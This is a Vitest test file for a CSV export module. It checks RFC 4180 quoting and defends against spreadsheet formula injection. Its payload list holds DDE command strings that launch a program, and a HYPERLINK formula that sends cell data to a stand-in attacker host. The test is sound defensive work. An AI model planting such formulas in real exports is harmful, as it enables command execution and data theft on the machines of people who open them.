import { describe, expect, test } from 'vitest'
import { type CsvColumn, csvHeader, csvRow } from '#lib/reports/csv.ts'

interface Row {
  readonly label: string | null
  readonly amount: string
}
const columns: readonly CsvColumn<Row>[] = [
  { name: 'label', value: ({ label }) => label },
  { name: 'amount', value: ({ amount }) => amount, isNumber: true },
]
const rowOf = (label: string | null, amount = '1.00000000') => csvRow(columns, { label, amount })

/** Reads one line as RFC 4180 says. */
function cellsOf(line: string): string[] {
  const cells: string[] = []
  let rest = line.replace(/\r\n$/, '')
  for (;;) {
    const match = /^(?:"((?:[^"]|"")*)"|([^",]*))(,|$)/.exec(rest)
    if (!match) throw new Error(`This is no CSV: ${JSON.stringify(line)}`)
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    rest = rest.slice(match[0].length)
    if (match[3] === '') return cells
  }
}

test('the first line names the columns', () => {
  expect(csvHeader(columns)).toBe('label,amount\r\n')
})

test.each([
  'plain',
  'with, comma',
  'with "quotes"',
  'two\r\nlines',
  ' spaces ',
  'ünïcödé 名前 🎉',
  '',
  'a=1+1',
  "it's",
])('a text comes out as it went in: %j', (label) => {
  expect(cellsOf(rowOf(label))).toEqual([label, '1.00000000'])
})

test('no text is an empty cell', () => {
  expect(rowOf(null)).toBe(',1.00000000\r\n')
})

describe('no cell is a formula to a spreadsheet', () => {
  const payloads = [
    '=1+1',
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '+1',
    '-1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '"=1+1',
    ',=1+1',
    '\r\n=1+1,2',
    '=1+1"\r\n=2+2',
    '＝1+1',
    '＠SUM(1+1)',
  ]
  // Every payload as it is, and behind what might slip past a check of the first character.
  const corpus = payloads.flatMap((payload) =>
    ['', ' ', '"', "'", ',', '""', 'x', '\u200b'].map((head) => head + payload),
  )

  test.each(corpus)('%j', (label) => {
    const [text = ''] = cellsOf(rowOf(label))
    expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
    expect(text.replace(/^'/, '')).toBe(label.replace(/^'/, ''))
    expect(rowOf(label).split('\r\n').length - 1).toBe(1 + label.split('\r\n').length - 1)
  })

  test('but a number of the product’s own stays a number, and what pretends to be one doesn’t', () => {
    expect(rowOf('x', '-0.10000000')).toBe('x,-0.10000000\r\n')
    expect(rowOf('x', '-1+1')).toBe('x,"\'-1+1"\r\n')
    expect(rowOf('x', '=1')).toBe('x,"\'=1"\r\n')
  })
})
